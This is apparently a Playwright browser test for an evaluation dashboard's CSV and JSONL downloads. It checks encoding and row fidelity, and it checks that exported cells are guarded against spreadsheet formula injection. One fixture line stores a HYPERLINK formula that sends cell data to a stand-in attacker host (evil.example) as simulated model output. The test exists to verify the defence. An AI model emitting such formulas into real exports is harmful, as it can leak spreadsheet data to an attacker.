/*
 * Every table's CSV download in a real browser: each view's tables carry the button, and the file
 * Chromium saves parses back (with a CSV reader written here, apart from the page's writer) to
 * exactly the rows and columns on screen, as UTF-8 with a BOM, CRLF line ends, Chinese intact and
 * a formula in model output disarmed. The run page's JSONL link saves every stored result.
 */
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { describeBrowser, expectClean, openPage, screenName, SCREENS, visit, type Screen } from '../helpers/browser.js';
import { seedDashboard } from './seed.js';

/** RFC 4180, read: quoted fields (doubled quotes), CRLF row ends. Fails on a row not ended by CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        cell += text.slice(i, q);
        if (text[q + 1] === '"') { cell += '"'; i = q + 2; } else { i = q + 1; break; }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
      i = end < 0 ? text.length : i + end;
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) { rows.push(row); row = []; i += 2; }
    else throw new Error(`row not ended by CRLF at ${i}`);
  }
  return rows;
}

/** What each cell of the table shows (its innerText, trimmed): header row first. */
const shownRows = (page: Page, tableSel: string) => page.$eval(tableSel, (t) => [...t.querySelectorAll(':scope > thead > tr, :scope > tbody > tr')]
  .map((tr) => [...tr.children].map((c) => (c as unknown as { innerText: string }).innerText.trim())));

/** Clicks the table's CSV button; returns the file's name and its text (BOM kept). */
async function download(page: Page, tableSel: string, scope = ''): Promise<{ name: string; raw: string }> {
  const button = page.locator(`${scope} .table-box:has(> ${tableSel}) > .table-tools > [data-testid=download-csv]`.trim());
  const [dl] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return { name: dl.suggestedFilename(), raw: readFileSync((await dl.path())!, 'utf8') };
}

/** Every table.data of the view has its own download button right above it. */
async function everyTableHasButton(page: Page): Promise<number> {
  const missing = await page.$$eval('table.data', (ts) => ts.filter((t) => t.parentElement?.querySelector(':scope > .table-tools > [data-testid=download-csv]') == null)
    .map((t) => t.getAttribute('data-testid') ?? t.querySelector('caption')?.textContent ?? '?'));
  expect(missing, 'tables without a CSV button').toEqual([]);
  return page.locator('table.data').count();
}

/** The download is the table as shown: BOM, CRLF, RFC 4180; formula-like text unguarded back to what the cell shows. */
async function expectSameAsShown(page: Page, tableSel: string, file: string, scope = ''): Promise<string[][]> {
  const { name, raw } = await download(page, tableSel, scope);
  expect(name).toBe(file);
  expect(raw.startsWith('\uFEFF'), 'BOM').toBe(true);
  expect(raw.endsWith('\r\n')).toBe(true);
  const rows = parseCsv(raw.slice(1));
  const shown = await shownRows(page, `${scope} ${tableSel}`.trim());
  expect(rows.map((r) => r.map((c) => (/^'[=+\-@\t\r]/.test(c) ? c.slice(1) : c))), `${file} = the table on screen`).toEqual(shown);
  expect(shown.length).toBeGreaterThan(1);
  return rows;
}

const SCREENS_TESTED: Screen[] = [SCREENS[1]!, SCREENS[2]!];

describeBrowser('downloads: every table as CSV, a run\'s answers as JSONL, in chromium', (browser) => {
  for (const screen of SCREENS_TESTED) {
    it(`every view's tables download as exactly what they show (${screenName(screen)})`, async () => {
      const s = await seedDashboard();
      const run = s.latest['bio-1000']!;
      const base = s.latest.base!;
      // Untrusted model output: a spreadsheet formula, stored as an answer.
      const formula = '=HYPERLINK("http://evil.example/x?"&A1,"click, here")';
      s.d.store.db.prepare("UPDATE results SET answer = ? WHERE run_id = ? AND item_id = 'bio-school'").run(formula, run);
      const zh = s.d.store.results.list(run).find((r) => r.itemId === 'bio-who-zh')!.answer!;
      expect(zh).toMatch(/[\u4e00-\u9fff]/);
      const w = await openPage(browser(), screen);

      // The run page: metrics, sets, eval sets, answers.
      await visit(w, s.d, `/runs/${run}`);
      expect(await everyTableHasButton(w.page)).toBe(4);
      const rows = await expectSameAsShown(w.page, 'table[data-testid=items-table]', `run-${run}-results.csv`);
      const raw = (await download(w.page, 'table[data-testid=items-table]')).raw;
      expect(raw).toContain(`"'${formula.replaceAll('"', '""')}`);
      expect(rows.some((r) => r[2]!.startsWith(`'${formula}`)), 'the formula is guarded').toBe(true);
      expect(rows.some((r) => r[2]!.startsWith(zh)), 'the Chinese answer round-trips').toBe(true);
      expect(rows.some((r) => r[2]!.startsWith(formula)), 'no cell starts with the formula itself').toBe(false);
      await expectSameAsShown(w.page, 'table[data-testid=run-sets]', `run-${run}-sets.csv`);
      // The whole run as JSONL: the link saves every stored result, as the API sends them.
      const [dl] = await Promise.all([w.page.waitForEvent('download'), w.page.locator('[data-testid=download-jsonl]').click()]);
      expect(dl.suggestedFilename()).toBe(`run-${run}-results.jsonl`);
      const lines = readFileSync((await dl.path())!, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { set: string; id: string; answer: string });
      expect(lines.map((l) => `${l.set}/${l.id}`)).toEqual(s.d.store.results.list(run).map((r) => `${r.set}/${r.itemId}`));
      expect(lines.find((l) => l.id === 'bio-school')!.answer).toBe(formula);

      // The compare page: metrics (in its open table view), transitions, flips, blog.
      await visit(w, s.d, `/compare?base=${base}&head=${run}`);
      expect(await everyTableHasButton(w.page)).toBe(4);
      for (const [sel, file] of [['metric-table', 'metrics'], ['transitions', 'transitions'], ['flip-table', 'flips'], ['blog-table', 'blog']] as const) {
        await expectSameAsShown(w.page, `table[data-testid=${sel}]`, `compare-${base}-vs-${run}-${file}.csv`);
      }

      // The trend page: latest runs, each trend table and the trade-off table (in closed table views: opened first).
      await visit(w, s.d, '/');
      await w.page.waitForSelector('table[data-testid=tradeoff-table]', { state: 'attached' });
      const n = await everyTableHasButton(w.page);
      expect(n).toBeGreaterThanOrEqual(6);
      await expectSameAsShown(w.page, 'table[data-testid=latest-runs]', 'latest-runs.csv');
      const panel = w.page.locator('[data-testid="trend-bio_accuracy"] details.table-view');
      await panel.locator('summary').click();
      await expectSameAsShown(w.page, 'table[data-testid=trend-table]', 'trend-bio_accuracy.csv', '[data-testid="trend-bio_accuracy"]');
      await w.page.locator('[data-testid=tradeoff] details.table-view summary').click();
      await expectSameAsShown(w.page, 'table[data-testid=tradeoff-table]', 'tradeoff-bio_accuracy-vs-blog_quality.csv');
      expectClean(w.log, s.d);
    }, 120_000);
  }
});
